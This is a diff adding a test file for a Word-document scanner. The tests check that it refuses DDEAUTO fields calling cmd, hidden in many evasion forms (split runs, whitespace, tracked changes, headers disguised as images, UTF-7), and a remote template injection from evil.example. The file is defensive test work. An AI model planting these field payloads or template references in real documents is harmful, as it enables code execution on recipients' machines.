@@ -1,0 +1,142 @@
+import { describe, expect, it } from 'vitest';
+import { field, mark, run, withText } from '../../testing/documents.ts';
+import { aDocx, relationships } from '../../testing/files.ts';
+import { lookIntoDocx } from './word-documents.ts';
+
+const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const part = (text: string, more = '') => `<w:p ${w} ${more}>${text}</w:p>`;
+const dde = 'DDEAUTO c:\\\\cmd';
+const hidden = field(run(dde));
+const removed = (text: string) =>
+  `<w:del><w:r><w:delInstrText>${text}</w:delInstrText></w:r></w:del>`;
+const added = (text: string) => `<w:ins>${run(text)}</w:ins>`;
+const choice = (first: string, other: string) =>
+  `<mc:AlternateContent xmlns:mc="mc"><mc:Choice Requires="x">${first}</mc:Choice><mc:Fallback>${other}</mc:Fallback></mc:AlternateContent>`;
+const types = (...more: string[]): string =>
+  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${more.join('')}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
+const header = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
+const refersTo = (type: string, target: string, more = ''): string =>
+  relationships(
+    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/>`,
+  );
+
+/** Ways in which a document may run a program by a field. */
+const variants: [string, () => Buffer][] = [
+  ['in one run', () => withText(hidden)],
+  ['that is shown already', () => withText(`${mark('begin')}${run(dde)}${mark('separate')}`)],
+  ['that never ends', () => withText(`${mark('begin')}${run(dde)}`)],
+  ['behind much white space', () => withText(field(run(`${' '.repeat(5000)}${dde}`)))],
+  ['a letter a run', () => withText(field(...[...dde].map(run)))],
+  ['in text that is no instruction', () => withText(field(`<w:r><w:t>${dde}</w:t></w:r>`))],
+  ['in one element', () => withText(`<w:fldSimple w:instr="${dde}"/>`)],
+  [
+    'in one element whose words have a double',
+    () => withText(`<w:fldSimple w:instr="${dde}" x:instr="PAGE" xmlns:x="x"/>`),
+  ],
+  ['in what another field shows', () => withText(field(field(run('REF a '))))],
+  ['in what a simple field shows', () => withText(field('<w:fldSimple w:instr="REF a"/>'))],
+  ['in what a field shows that goes on', () => withText(field(run('PAGE'), field(run('REF a '))))],
+  ['once a deletion is accepted', () => withText(field(removed('PAGE '), run(dde)))],
+  ['once a deletion is rejected', () => withText(field(added('PAGE '), removed(dde)))],
+  ['once an insertion is rejected', () => withText(field(added('PAGE '), run(dde)))],
+  ['in another choice', () => withText(field(choice(run('PAGE '), run(dde))))],
+  [
+    'in another choice that begins and ends elsewhere',
+    () => withText(`${choice(`${mark('begin')}${run('PAGE ')}`, mark('begin'))}${run(dde)}`),
+  ],
+  [
+    'behind an end that not all programs read',
+    () => withText(`${mark('begin')}${choice(mark('end'), '')}${run(dde)}${mark('end')}`),
+  ],
+  [
+    'behind words that not all programs read',
+    () => withText(field('<x:instrText xmlns:x="x">PAGE </x:instrText>', run(dde))),
+  ],
+  [
+    'in a control that is filled from data',
+    () => withText(field(`<w:sdt><w:sdtContent>${run('PAGE ')}</w:sdtContent></w:sdt>`)),
+  ],
+  ...['header1', 'footer1', 'comments', 'footnotes', 'endnotes', 'glossary/document'].map(
+    (name): [string, () => Buffer] => [
+      `in ${name}`,
+      () => aDocx({ [`word/${name}.xml`]: part(hidden) }),
+    ],
+  ),
+  ...['customXml/item1', 'word/diagrams/data1', 'word/charts/chart1', 'docProps/a'].map(
+    (name): [string, () => Buffer] => [
+      `in ${name}`,
+      () => aDocx({ [`${name}.xml`]: part(hidden) }),
+    ],
+  ),
+  [
+    'in a header that is called a picture',
+    () =>
+      aDocx({
+        '[Content_Types].xml': types(
+          `<Override PartName="/word/media/a.png" ContentType="${header}"/>`,
+        ),
+        'word/media/a.png': part(hidden),
+      }),
+  ],
+  [
+    'in a header among pictures',
+    () =>
+      aDocx({
+        '[Content_Types].xml': types('<Default Extension="png" ContentType="image/png"/>'),
+        'word/_rels/document.xml.rels': refersTo('header', 'media/a.png'),
+        'word/media/a.png': part(hidden),
+      }),
+  ],
+  [
+    'in another alphabet',
+    () => aDocx({ 'word/header1.xml': `<?xml version="1.0" encoding="utf-7"?>${part('+AEQ-DE')}` }),
+  ],
+];
+
+describe('a document with a field that runs a program', () => {
+  it.each(variants)('is refused: %s', async (_what, make) => {
+    expect(await lookIntoDocx(make())).toBe('mixed');
+  });
+});
+
+it('a document whose fetched template is called a link by a double is refused', async () => {
+  const double =
+    'TargetMode="External" x:Type="http://schemas.openxmlformats.org/a/hyperlink" xmlns:x="x"';
+  const target = 'https://evil.example/t.dotm';
+  expect(
+    await lookIntoDocx(
+      aDocx({ 'word/_rels/settings.xml.rels': refersTo('attachedTemplate', target, double) }),
+    ),
+  ).toBe('mixed');
+});
+
+it('a document with the fields that Word writes is taken', async () => {
+  const shown = (...code: string[]) =>
+    `${mark('begin')}${code.join('')}${mark('separate')}<w:r><w:t>7 DDE</w:t></w:r>${mark('end')}`;
+  const texts = [
+    shown(run(' TOC \\o "1-3" '), run('\\h')),
+    shown(run(' PAG'), run('E ')),
+    shown(run(' = '), shown(run(' PAGE ')), run(' - 1 ')),
+    shown(added(' PAGE ')),
+    `<w:sdt><w:sdtContent>${shown(run('PAGE'))}</w:sdtContent></w:sdt>`,
+    choice(`<w:p>${shown(run('PAGE'))}</w:p>`, `<w:p>${shown(run('PAGE'))}</w:p>`),
+    '<w:fldSimple w:instr=" HYPERLINK &quot;https://a.example&quot; "><w:r/></w:fldSimple>',
+    field(),
+  ];
+  for (const text of texts)
+    expect([text, await lookIntoDocx(withText(text))]).toEqual([text, 'plain']);
+  expect(
+    await lookIntoDocx(
+      aDocx({
+        '[Content_Types].xml': types(
+          '<Default Extension="png" ContentType="image/png"/>',
+          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
+          `<Override PartName="/word/header1.xml" ContentType="${header}"/>`,
+        ),
+        'word/_rels/document.xml.rels': refersTo('header', 'header1.xml'),
+        'word/header1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${part(shown(run('PAGE')))}`,
+        'word/media/a.png': 'x',
+      }),
+    ),
+  ).toBe('plain');
+});
